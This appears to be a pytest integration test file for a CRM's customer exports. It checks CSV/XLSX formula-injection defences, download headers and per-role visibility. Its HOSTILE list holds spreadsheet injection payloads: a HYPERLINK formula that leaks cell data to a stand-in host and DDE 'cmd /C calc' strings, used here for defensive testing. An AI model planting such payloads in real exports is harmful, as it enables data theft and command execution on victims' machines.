"""Customer exports, attacked: names that are spreadsheet formulas (CSV injection / formula
cells in XLSX), and exports that must not show a customer the caller may not see."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile

import pytest
from openpyxl import load_workbook

pytestmark = pytest.mark.integration

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B2&C2,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.get_json(silent=True)
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))


def _xlsx(response):
    assert response.status_code == 200, response.get_json(silent=True)
    return response.get_data()


def test_formula_names_are_text_in_csv_and_xlsx(people):
    tag = uuid.uuid4().hex[:8]
    for i, name in enumerate(HOSTILE):
        r = people.sales.post("/customers", json={
            "name": f"{name} {tag}", "industry": "=1+1", "phone": f"+86 21 5555 {i:04d}",
            "address": "@evil", "category": "-A"})
        assert r.status_code == 201, r.get_json()
        c = people.sales.post(f"/customers/{r.get_json()['id']}/contacts",
                              json={"name": f"=HYPERLINK(\"http://x\",\"{tag}\")", "phone": "+1-555", "email": None})
        assert c.status_code == 201, c.get_json()
    rows = _csv_rows(people.sales.get(f"/exports/customers?format=csv&q={tag}"))
    assert len(rows) == len(HOSTILE)
    assert sorted(r["name"] for r in rows) == sorted(f"'{name} {tag}" for name in HOSTILE)
    for row in rows:
        for column in ("name", "industry", "phone", "address", "category", "contact_name", "contact_phone"):
            assert row[column].startswith("'"), (column, row[column])
        assert row["status"] == "active" and not row["id"].startswith("'")

    data = _xlsx(people.sales.get(f"/exports/customers?format=xlsx&q={tag}"))
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet_xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # not one formula cell
    sheet = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[1]]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = sorted(row[header.index("name")] for row in sheet.iter_rows(min_row=2, values_only=True))
    assert names == sorted(f"{name} {tag}" for name in HOSTILE)  # the text itself, unchanged
    hostile_cells = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert len(hostile_cells) == len(HOSTILE) * 7  # name, industry, phone, address, category, contact x2
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile_cells)


def test_export_answers_are_downloads_that_are_not_cached(people):
    r = people.sales.get("/exports/customers?format=csv")
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Content-Disposition"].startswith("attachment;")
    assert "filename*=UTF-8''customers.csv" in r.headers["Content-Disposition"]
    assert "no-store" in r.headers["Cache-Control"]


def test_each_role_exports_exactly_what_its_list_shows(people):
    tag = uuid.uuid4().hex[:8]

    def make(client, label):
        r = client.post("/customers", json={"name": f"可见性{tag}{label}"})
        assert r.status_code == 201, r.get_json()
        return r.get_json()["id"]

    mine = make(people.sales, "销售自己")
    others = make(people.other, "别组销售")
    shared = make(people.other, "共享给销售")
    assert people.other.post(f"/customers/{shared}/shares",
                             json={"user_id": people.sales.user["id"]}).status_code == 201
    managers = make(people.manager, "经理自己")

    def exported(client, fmt):
        r = client.get(f"/exports/customers?format={fmt}&q=可见性{tag}")
        if fmt == "csv":
            return {row["id"] for row in _csv_rows(r)}
        sheet = load_workbook(io.BytesIO(_xlsx(r))).active
        return {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}

    expected = {
        "sales": {mine, shared},
        "manager": {mine, managers},  # their rep's, not the other team's (not even the one shared with the rep)
        "other": {others, shared},
        "manager2": {others, shared},
        "admin": {mine, others, shared, managers},
    }
    for role, ids in expected.items():
        client = getattr(people, role)
        listed = {c["id"] for c in client.get(f"/customers?q=可见性{tag}&per_page=200").get_json()["items"]}
        assert listed == ids, role
        assert exported(client, "csv") == ids, role
        assert exported(client, "xlsx") == ids, role
    for role in ("finance", "warehouse"):  # whatever their list shows, the export shows no more
        client = getattr(people, role)
        r = client.get(f"/customers?q=可见性{tag}&per_page=200")
        listed = {c["id"] for c in r.get_json()["items"]} if r.status_code == 200 else set()
        e = client.get(f"/exports/customers?format=csv&q=可见性{tag}")
        assert e.status_code in (200, 403, 404)
        assert (({row["id"] for row in _csv_rows(e)}) if e.status_code == 200 else set()) <= listed, role
